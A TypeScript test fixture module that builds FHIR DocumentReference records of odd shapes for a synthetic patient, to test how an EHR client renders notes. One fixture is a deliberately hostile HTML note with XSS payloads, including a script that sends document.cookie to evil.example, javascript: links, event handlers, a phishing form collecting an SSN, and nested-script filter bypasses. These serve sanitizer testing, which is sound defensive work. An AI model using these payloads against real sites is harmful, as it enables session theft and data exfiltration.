/** One document for each unusual shape of content or attachment. All belong to Warren McGinnis. */
import type { DocumentReference, DocumentReferenceContent, Stored } from '../../types.ts';
import { practitionerReference } from '../practitioners.ts';
import type { Chart } from './chart.ts';
import { CLINICAL_NOTE, IMAGING_RESULT, IMAGING_TYPE, NOTE_TYPES } from './codes-documents.ts';
import { patientReference } from './elements.ts';
import type { Rendition } from './notes.ts';
import { escapeRtf, renderPdf } from './renditions.ts';

/** HTML with everything that must never reach a browser: scripts, handlers, styles, frames, external images and links. */
export const HOSTILE_NOTE = 'eShape-Doc.Hostile..0013';
/** Only RTF, with accents, characters outside code page 1252 and outside the BMP, braces, a picture and hidden groups. */
export const RTF_NOTE = 'eShape-Doc.Rtf......0023';
/** Only a PDF. */
export const PDF_NOTE = 'eShape-Doc.Pdf......0033';
/** 25 MB of HTML and a short plain text in one document. */
export const LARGE_NOTE = 'eShape-Doc.Large....0043';
/** Its Binary does not exist: {@link DANGLING_CONTENT}. */
export const DANGLING_NOTE = 'eShape-Doc.Dangling.0053';
/** Inline content, as other servers send it: `attachment.data` without `url`. */
export const INLINE_NOTE = 'eShape-Doc.Inline...0063';
/** A `url` on another server, which must never receive the access token. */
export const ABSOLUTE_NOTE = 'eShape-Doc.Absolute.0073';
/** The Binary exists, but is empty. */
export const EMPTY_NOTE = 'eShape-Doc.Empty....0083';
/** Plain text. */
export const PLAIN_NOTE = 'eShape-Doc.Plain....0093';
/** HTML in ISO 8859-1, declared in its content type. */
export const LATIN_1_NOTE = 'eShape-Doc.Latin1...0103';
/** `status` and `docStatus` are codes outside FHIR's value sets. */
export const UNKNOWN_DOCUMENT_STATUS = 'eShape-Doc.Status...0113';

export const DANGLING_CONTENT = 'Binary/eGone-B1nary.0000000013';
/** The 25 MB Binary. */
export const LARGE_CONTENT = 'eShape-Bin.Large....0013';
/** The text of {@link RTF_NOTE}. Its conversion to plain text must contain this. */
export const RTF_TEXT = 'Crème brûlée {1 serving} \\ 37 °C — “naïve” β-blocker, žluťoučký, 日本, 🫀';

const HOSTILE_CONTENT = 'eShape-Bin.Hostile..0023';
const RTF_CONTENT = 'eShape-Bin.Rtf......0033';
const PDF_CONTENT = 'eShape-Bin.Pdf......0043';
const EMPTY_CONTENT = 'eShape-Bin.Empty....0053';
const PLAIN_CONTENT = 'eShape-Bin.Plain....0063';
const LATIN_1_CONTENT = 'eShape-Bin.Latin1...0073';

const HOSTILE_HTML = `<html><head><title>Note</title><style>body{background:url(https://evil.example/style.png)}</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"></head>
<body onload="alert('body')"><h1 onclick="alert('click')" style="position:fixed;background:url(javascript:alert(1))">Progress note</h1>
<script>fetch('https://evil.example/?' + document.cookie)</script>
<p>The wound is <b>healing well</b> &amp; dry.</p>
<img src="https://evil.example/pixel.png" alt="photo"><img src=x onerror="alert('img')">
<a href="javascript:alert('link')">Result</a> <a href="https://evil.example/phish" target="_blank">Portal</a>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object>
<svg onload="alert('svg')"><a xlink:href="javascript:alert('xlink')"><text>svg</text></a></svg>
<form action="https://evil.example/collect"><input name="ssn"><button formaction="javascript:alert('form')">Send</button></form>
<table><tr><td background="https://evil.example/cell.png">BP</td><td>118/76</td></tr></table>
<scr<script>ipt>alert('nested')</scr</script>ipt><!-- <script>alert('comment')</script> -->
<p>Follow up in two weeks.</p></body></html>`;

/** Contains every non-text element: font and style tables, a picture, and destinations that readers skip. */
const RTF = [
  String.raw`{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Segoe UI;}}{\colortbl ;\red255\green0\blue0;}`,
  String.raw`{\stylesheet{\ql\f0 Normal;}}{\*\unknowndest must not be read}{\info{\author must not be read}}`,
  String.raw`\viewkind4\uc1\pard\f0\fs20 Dietitian note\par`,
  `\\pard ${escapeRtf(RTF_TEXT)}\\par`,
  String.raw`{\v must not be read}{\pict\pngblip\picw1\pich1 89504e470d0a1a0a}`,
  String.raw`\trowd\cellx2000\cellx4000 Weight\intbl\cell 81.50 kg\intbl\cell\row`,
  String.raw`\pard\tab Line one\line Line two\par}`,
].join('\r\n');

interface Shape {
  content: DocumentReferenceContent[];
  elements?: Partial<DocumentReference>;
}

const SHAPES: Readonly<Record<string, Shape>> = {
  [HOSTILE_NOTE]: { content: [createContent('text/html', HOSTILE_CONTENT)] },
  [RTF_NOTE]: { content: [createContent('text/rtf', RTF_CONTENT)] },
  [PDF_NOTE]: {
    content: [createContent('application/pdf', PDF_CONTENT)],
    elements: { category: [IMAGING_RESULT], type: IMAGING_TYPE, description: 'XR CHEST 2 VIEWS' },
  },
  [LARGE_NOTE]: {
    content: [createContent('text/html', LARGE_CONTENT), createContent('text/plain', PLAIN_CONTENT)],
  },
  [DANGLING_NOTE]: { content: [{ attachment: { contentType: 'text/html', url: DANGLING_CONTENT } }] },
  [INLINE_NOTE]: {
    content: [
      {
        attachment: {
          contentType: 'text/plain',
          data: Buffer.from('Called the patient: results are normal.').toString('base64'),
          title: 'Telephone call',
          size: 39,
        },
      },
    ],
  },
  [ABSOLUTE_NOTE]: {
    content: [{ attachment: { contentType: 'text/html', url: 'https://ehr.example.com/fhir/r4/Binary/80' } }],
  },
  [EMPTY_NOTE]: { content: [createContent('text/html', EMPTY_CONTENT)] },
  [PLAIN_NOTE]: { content: [createContent('text/plain', PLAIN_CONTENT)] },
  [LATIN_1_NOTE]: { content: [createContent('text/html; charset=iso-8859-1', LATIN_1_CONTENT)] },
};

/** Typed as an object, because FHIR's types exclude these codes. */
const BEYOND_FHIR: object = { status: 'archived', docStatus: 'pended' };

export function documentsOfOddShape(chart: Chart): Stored<DocumentReference>[] {
  return [
    ...Object.entries(SHAPES).map(([id, { content, elements }], place) =>
      Object.assign(createDocument(chart, id, place, content), elements),
    ),
    {
      ...createDocument(chart, UNKNOWN_DOCUMENT_STATUS, 27, [createContent('text/plain', PLAIN_CONTENT)]),
      ...BEYOND_FHIR,
    },
  ];
}

/** Returns the contents. The large one is empty here, because each read generates it. */
export function renditionsOfOddShape(): Rendition[] {
  return [
    { id: LARGE_CONTENT, contentType: 'text/html', content: '' },
    { id: HOSTILE_CONTENT, contentType: 'text/html', content: HOSTILE_HTML },
    { id: RTF_CONTENT, contentType: 'text/rtf', content: RTF },
    {
      id: PDF_CONTENT,
      contentType: 'application/pdf',
      content: renderPdf('Impression: no acute findings.'),
    },
    { id: EMPTY_CONTENT, contentType: 'text/html', content: '' },
    {
      id: PLAIN_CONTENT,
      contentType: 'text/plain',
      content: 'Seen today. Stable.\r\nReturn in 3 months.\r\n',
    },
    {
      id: LATIN_1_CONTENT,
      contentType: 'text/html; charset=iso-8859-1',
      content: Buffer.from('<p>Café au lait spots, 37 °C, naïve to opioids.</p>', 'latin1'),
    },
  ];
}

function createDocument(
  { patient, practitioners }: Chart,
  id: string,
  day: number,
  content: DocumentReferenceContent[],
): Stored<DocumentReference> {
  const [type] = NOTE_TYPES;
  return {
    resourceType: 'DocumentReference',
    id,
    status: 'current',
    docStatus: 'final',
    type,
    category: [CLINICAL_NOTE],
    subject: patientReference(patient),
    date: `2024-06-${String(day + 1).padStart(2, '0')}T15:00:00Z`,
    author: [practitionerReference(practitioners[0])],
    content,
  };
}

function createContent(contentType: string, id: string): DocumentReferenceContent {
  return { attachment: { contentType, url: `Binary/${id}` } };
}
